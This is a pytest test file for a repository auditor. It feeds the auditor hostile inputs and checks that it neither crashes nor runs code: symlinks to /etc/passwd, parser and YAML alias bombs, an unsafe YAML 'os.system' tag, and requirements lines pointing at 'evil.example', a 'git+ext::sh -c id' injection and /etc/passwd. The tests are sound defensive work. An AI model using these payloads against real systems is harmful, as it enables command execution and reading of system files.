"""Trees made to harm their reader: links, loops, names, bombs. All end in facts or in a stated problem."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from auditor.checks import Facts, all_checks
from auditor.errors import Unreadable
from auditor.repository.inventory import read_repository, read_text
from auditor.repository.yaml_text import read_yaml


def test_links_to_files_and_folders_outside_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "README.md").symlink_to("/etc/passwd")
    (tmp_path / "etc").symlink_to("/etc")
    (tmp_path / "loop").symlink_to(tmp_path)
    (tmp_path / "a.py").write_text("x = 1\n")
    repository = read_repository(tmp_path)
    assert [file.path for file in repository.files] == ["a.py"]
    assert len(repository.left_out) == 3
    for path in ("README.md", "etc/passwd", "loop/a.py"):
        with pytest.raises(Unreadable):
            read_text(tmp_path, path)


def test_a_pipe_does_not_hang_the_walk(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "train.py")
    repository = read_repository(tmp_path)
    assert repository.files == ()
    with pytest.raises(Unreadable):
        read_text(tmp_path, "train.py")


def test_names_that_are_no_utf_8_are_left_out_with_a_sentence(tmp_path: Path) -> None:
    (Path(os.fsdecode(os.fsencode(tmp_path) + b"/\xff\xfe.py"))).write_text("x = 1\n")
    repository = read_repository(tmp_path)
    assert repository.files == ()
    assert "not UTF-8" in repository.left_out[0]


def test_the_walk_stops_at_its_caps(tmp_path: Path) -> None:
    for number in range(20):
        (tmp_path / f"{number:02}.txt").write_text("x" * 100)
    assert len(read_repository(tmp_path, max_files=5).files) == 5
    assert len(read_repository(tmp_path, max_bytes=350).files) == 3
    deep = tmp_path
    for _ in range(45):
        deep = deep / "d"
        deep.mkdir()
    (deep / "a.py").write_text("x = 1\n")
    repository = read_repository(tmp_path)
    assert all(not file.path.endswith("a.py") for file in repository.files)
    assert any("deeper" in sentence for sentence in repository.left_out)


BOMBS = {
    "brackets.py": "x = " + "(" * 100_000 + ")" * 100_000,
    "unclosed.py": "[" * 100_000,
    "minus.py": "x = " + "-" * 100_000 + "1",
    "attributes.py": "x = a" + ".b" * 200_000,
    "plus.py": "x = 1" + " + 1" * 100_000,
    "nul.py": "x = 1\0\n",
    "indents.py": "\n".join(" " * n + "if x:" for n in range(300)),
    "line.py": "x = '" + "y" * 1_500_000 + "'",
    "latin.py": "# -*- coding: latin-1 -*-\nx = '\xe9'\n",
}


def test_each_source_bomb_is_read_or_has_its_reason_and_the_others_are_read(tmp_path: Path) -> None:
    for name, text in BOMBS.items():
        (tmp_path / name).write_bytes(text.encode("latin-1"))
    (tmp_path / "good.py").write_text("import numpy\nnumpy.random.seed(0)\n")
    sources = {source.path: source for source in read_repository(tmp_path).sources}
    assert set(sources) == {*BOMBS, "good.py"}
    assert sources["good.py"].calls
    assert sources["brackets.py"].problem
    assert sources["unclosed.py"].problem
    assert sources["nul.py"].problem


def test_a_line_of_fifty_megabytes_is_no_source(tmp_path: Path) -> None:
    for name in ("a.py", "README.md", "a.ipynb", "requirements.txt", "setup.py"):
        (tmp_path / name).write_bytes(b"x" * (50 << 20))
    repository = read_repository(tmp_path)
    assert all(source.problem for source in repository.sources)
    assert repository.documents[0].problem
    assert repository.notebooks[0].problem
    assert len(repository.dependencies.problems) == 2


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "[1, 2]",
        '{"cells": 3}',
        "[" * 100_000,
        '{"cells": [null, 1, {"cell_type": []}]}',
        '{"cells": [{"outputs": 3, "source": {}}]}',
    ],
)
def test_a_notebook_that_is_none_has_a_problem_or_no_code(tmp_path: Path, text: str) -> None:
    (tmp_path / "a.ipynb").write_text(text)
    repository = read_repository(tmp_path)
    (notebook,) = repository.notebooks
    assert notebook.problem or not any(cell.text for cell in notebook.cells)
    assert all(not source.calls for source in repository.sources)


ALIAS_BOMB = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(24)
)


@pytest.mark.parametrize(
    "text", [ALIAS_BOMB, "[" * 5_000, "a: *nothing", "!!python/object/apply:os.system ['id']", "\t- x", "x" * (2 << 20)]
)
def test_yaml_bombs_are_refused(text: str) -> None:
    with pytest.raises(Unreadable):
        read_yaml(text)


def test_requirements_that_reach_outside_stay_facts(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text(
        "-r /etc/passwd\n-r ../../x.txt\n-r requirements.txt\n-r loop.txt\n--index-url http://evil.example\n-e "
        "git+ext::sh -c id\nfile:///etc/passwd\n"
        "${HOME}/x\nnumpy==1.0\n" + "a" * 100_000 + "\n" + "[" * 5_000 + "\n"
    )
    (tmp_path / "loop.txt").write_text("-r requirements.txt\nscipy\n")
    dependencies = read_repository(tmp_path).dependencies
    names = {item.name for item in dependencies.requirements}
    assert {"numpy", "scipy"} <= names
    assert sum("outside the repository" in problem for problem in dependencies.problems) == 2
    assert any("index of its own" in problem for problem in dependencies.problems)


@pytest.mark.parametrize(
    "name",
    [
        "pyproject.toml",
        "Pipfile",
        "poetry.lock",
        "Pipfile.lock",
        "environment.yml",
        "setup.cfg",
        "setup.py",
        "Dockerfile",
    ],
)
@pytest.mark.parametrize(
    "text",
    ["[" * 50_000, "{" * 50_000, "a = " + "[" * 50_000, "\x00\x01", "=" * 10_000, "[project]\ndependencies = 3\n"],
)
def test_a_broken_manifest_is_a_problem_and_no_crash(tmp_path: Path, name: str, text: str) -> None:
    (tmp_path / name).write_text(text)
    assert read_repository(tmp_path).dependencies.requirements == ()


def test_setup_scripts_are_never_run(tmp_path: Path) -> None:
    mark = tmp_path / "ran"
    (tmp_path / "setup.py").write_text(
        f"open({str(mark)!r}, 'w')\nfrom setuptools import setup\nsetup(install_requires=['six'])\n"
    )
    assert [r.name for r in read_repository(tmp_path).dependencies.requirements] == ["six"]
    assert not mark.exists()


SLOW = [
    "(" * 20_000,
    "[" * 20_000,
    "![" * 10_000,
    "`" * 20_001,
    "<" * 20_000,
    "a" * 20_000,
    "python " * 3_000,
    "$ " * 10_000,
    "| " * 10_000,
    "- " * 5_000,
    "*" * 20_000,
    "_a" * 10_000,
    "<!--" * 5_000,
    "http://" * 3_000,
    "[weights](http://[x/model.pth) " * 300,
    "1." * 10_000,
    "download data " * 2_000,
    "python a.py " + "-" * 15_000,
    "python a.py " + "--a " * 4_000,
    "run " * 5_000 + ".py",
    "accuracy " * 3_000,
    "&&" * 10_000,
]


@pytest.mark.parametrize("text", SLOW, ids=[text[:6] + str(n) for n, text in enumerate(SLOW)])
def test_repetitive_documents_do_not_stall_any_check(tmp_path: Path, text: str) -> None:
    (tmp_path / "README.md").write_text(f"# Requirements\n{text}\n\n## Results\n\n{text}\n\n    {text}\n")
    (tmp_path / "a.py").write_text("print(1)\n")
    repository = read_repository(tmp_path)
    facts = Facts([repository])
    for name, check in all_checks().items():
        if name.partition(".")[0] in ("code", "dependencies", "documentation", "randomness", "data", "licence"):
            assert "check itself failed" not in facts.run(check).sentence
